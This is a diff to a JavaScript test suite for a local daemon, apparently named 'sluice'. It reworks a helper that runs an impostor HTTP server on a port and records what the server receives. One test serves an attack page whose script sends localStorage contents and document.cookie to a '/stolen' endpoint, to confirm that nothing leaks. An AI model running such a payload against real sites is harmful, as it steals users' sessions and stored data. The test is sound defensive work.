@@ -56,25 +56,47 @@ class Daemon {
   }
 }
 
-// Answers everything and writes down what it is sent.
-async function squat(port, answer) {
-  const seen = [];
-  const server = http.createServer((request, response) => {
-    seen.push({ url: request.url, headers: request.headers });
-    answer(request, response);
+// Answers everything and writes down what it is sent: first its port, then a line a request.
+const SQUATTER = `
+const [port, status, body] = process.argv.slice(1);
+const say = (what) => process.stdout.write(JSON.stringify(what) + '\\n');
+require('node:http')
+  .createServer((request, response) => {
+    say({ url: request.url, headers: request.headers });
+    response.writeHead(Number(status), { 'Content-Type': 'text/html' }).end(body);
+  })
+  .listen(Number(port), '127.0.0.1', function () { say(this.address()); });
+`;
+const NOBODY = 65534;
+
+// As another user where that is possible. What it was sent is in `seen`.
+async function squat(port, status, body = '') {
+  const other = process.getuid() === 0 ? { uid: NOBODY, gid: NOBODY } : {};
+  const child = spawn(process.execPath, ['-e', SQUATTER, '--', port, status, body], {
+    ...other,
+    cwd: '/',
+    env: {},
+    stdio: ['ignore', 'pipe', 'inherit'],
   });
-  await new Promise((done, failed) => {
-    server.once('error', failed);
-    server.listen(port, '127.0.0.1', done);
+  squatters.push(child);
+  const lines = [];
+  let rest = '';
+  child.stdout.on('data', (piece) => {
+    const all = (rest + piece).split('\n');
+    rest = all.pop();
+    lines.push(...all.map((line) => JSON.parse(line)));
   });
-  squatters.push(server);
+  await until(() => lines.length > 0);
   return {
-    seen,
-    port: server.address().port,
-    stop: () => {
-      server.closeAllConnections();
-      server.close();
+    get seen() {
+      return lines.slice(1);
     },
+    port: lines[0].port,
+    stop: () =>
+      new Promise((done) => {
+        child.once('exit', done);
+        child.kill('SIGKILL');
+      }),
   };
 }
 
@@ -128,7 +150,7 @@ before(async () => {
 
 after(async () => {
   await browser?.close();
-  for (const server of squatters) server.close();
+  for (const child of squatters) child.kill('SIGKILL');
   for (const daemon of daemons) {
     await daemon.end('SIGTERM');
     await rm(daemon.state, { recursive: true, force: true, maxRetries: 10, retryDelay: 200 });
@@ -159,9 +181,7 @@ test('a server on another port gets nothing that opens a route', { skip, timeout
       .then((got) => fetch('/stolen?' + got + '&' + JSON.stringify({ ...localStorage }) + document.cookie))
       .then(() => { document.title = 'done'; });
   </script>`;
-  const other = await squat(0, (_request, response) =>
-    response.writeHead(200, { 'Content-Type': 'text/html' }).end(attack),
-  );
+  const other = await squat(0, 200, attack);
   const page = await context.newPage();
   await page.goto(`http://127.0.0.1:${other.port}/`);
   await page.waitForFunction(() => document.title === 'done');
@@ -170,7 +190,7 @@ test('a server on another port gets nothing that opens a route', { skip, timeout
   assert.ok(other.seen.length >= 2);
   for (const { headers } of other.seen) assert.equal(headers.cookie, undefined);
   assert.deepEqual(await opened(daemon, other.seen), []);
-  other.stop();
+  await other.stop();
   await context.close();
 });
 
@@ -183,7 +203,7 @@ test('what a squatter on the port of a killed daemon collects opens nothing at t
   const context = await newContext();
   const page = await signedIn(context, daemon);
   await daemon.end('SIGKILL');
-  const squatter = await squat(port, (_request, response) => response.writeHead(503).end());
+  const squatter = await squat(port, 503);
   await until(() => squatter.seen.some((one) => one.headers['x-sluice-session']));
   assert.ok(
     squatter.seen.some((one) => one.headers['x-sluice-session']),
@@ -194,7 +214,7 @@ test('what a squatter on the port of a killed daemon collects opens nothing at t
   assert.deepEqual(await opened(daemon, squatter.seen), []);
   // The same on its old port; and the page says what to do.
   await daemon.end('SIGKILL');
-  squatter.stop();
+  await squatter.stop();
   await daemon.serve(port);
   assert.deepEqual(await opened(daemon, squatter.seen), []);
   await page.getByRole('heading', { name: 'Sign in again' }).waitFor();
